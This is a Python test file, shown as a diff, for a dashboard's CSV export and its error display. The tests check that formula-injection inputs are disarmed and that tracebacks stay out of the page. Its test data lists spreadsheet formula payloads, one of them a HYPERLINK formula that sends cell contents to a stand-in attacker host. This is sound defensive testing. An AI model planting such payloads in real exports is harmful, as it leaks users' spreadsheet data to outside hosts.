@@ -1,0 +1,79 @@
+"""Page furniture (dashboards/ui.py): what a viewer is shown when a model fails (one line and a reference, the
+traceback only in the server's log), and a table's CSV download (neutralised against formula injection)."""
+from __future__ import annotations
+
+import csv
+import io
+import logging
+import re
+
+import duckdb
+import polars as pl
+
+import dashboard_fixtures as dfx
+from dashboard_fixtures import lab_copy, lab_db  # noqa: F401 (fixtures)
+from dashboards import exports, ui
+from ingest import warehouse
+
+HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1,2)", "-2+3", "\t=1+1",
+           "\u200b=1+1", "＝1+1", "nlp"]
+
+
+def test_table_csv_neutralises_every_cell_a_spreadsheet_would_evaluate():
+    df = pl.DataFrame({"team": HOSTILE, "gpu_hours": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
+                       "jobs": list(range(len(HOSTILE)))})
+    got = ui.table_csv(df, {"team": "Team", "gpu_hours": "GPU-hours", "jobs": "Jobs"})
+    header, *rows = list(csv.reader(io.StringIO(got.decode("utf-8"))))
+    assert header == ["Team", "GPU-hours", "Jobs"]
+    teams = [r[0] for r in rows]
+    assert teams[:-1] == ["'" + t for t in HOSTILE[:-1]]          # each kept, after a quote that disarms it
+    assert teams[-1] == "nlp"
+    assert [r[1] for r in rows][:2] == ["-1.5", "2.0"]             # numbers stay numbers, signs and all
+    # the one neutralising rule: the finance exports' writer, applied to the table as labelled
+    assert got == exports.csv_bytes(ui.present(df, {"team": "Team", "gpu_hours": "GPU-hours", "jobs": "Jobs"}))
+
+
+class _Records(logging.Handler):
+    def __init__(self):
+        super().__init__()
+        self.records: list[logging.LogRecord] = []
+
+    def emit(self, record):
+        self.records.append(record)
+
+
+def _page_text(at) -> str:
+    parts = [e.value for kind in (at.markdown, at.caption, at.info, at.warning, at.error, at.code) for e in kind]
+    return "\n".join(parts)
+
+
+def test_a_failing_page_shows_one_line_and_a_reference_the_log_has_the_traceback(lab_copy, monkeypatch):
+    # A snapshot missing a mart the Overview reads: its tiles and its trends cannot be computed.
+    con = duckdb.connect(str(warehouse.serving_path(lab_copy)))
+    con.execute("DROP TABLE tl_hourly")
+    con.close()
+    records = _Records()
+    ui.log.addHandler(records)
+    try:
+        at = dfx.app(lab_copy, monkeypatch)
+        at.run()
+    finally:
+        ui.log.removeHandler(records)
+    assert not at.exception, [e.value for e in at.exception]
+    errors = [e.value for e in at.error]
+    assert len(errors) == 1 and errors[0].startswith(f"**Overview {ui.FAILED_TEXT}** from this snapshot.")
+    page_ref = re.search(r"Reference `([0-9a-f]{8})`", errors[0]).group(1)
+    tile_refs = [re.fullmatch(rf":red\[{ui.FAILED_TEXT}\] \(reference `([0-9a-f]{{8}})`\)", c.value).group(1)
+                 for c in at.caption if ui.FAILED_TEXT in c.value]
+    assert tile_refs, "no tile says it could not be computed"
+    # nothing on the page names a source file, a path, the exception or the SQL object
+    text = _page_text(at)
+    for leak in ("Traceback", ".py", "/work", "/tmp", "CatalogException", "Catalog Error", "tl_hourly"):
+        assert leak not in text, leak
+    assert not at.expander, [x.label for x in at.expander]
+    # the administrator finds each reference once in the log, with its traceback
+    logged = {re.match(r"reference ([0-9a-f]{8}): ", r.getMessage()).group(1): r for r in records.records}
+    assert set(logged) == {page_ref, *tile_refs} and len(records.records) == 1 + len(tile_refs)
+    assert all(r.levelno == logging.ERROR and r.exc_info for r in logged.values())
+    detail = logging.Formatter().format(logged[page_ref])
+    assert "Traceback" in detail and "tl_hourly" in detail and "views/overview.py" in detail
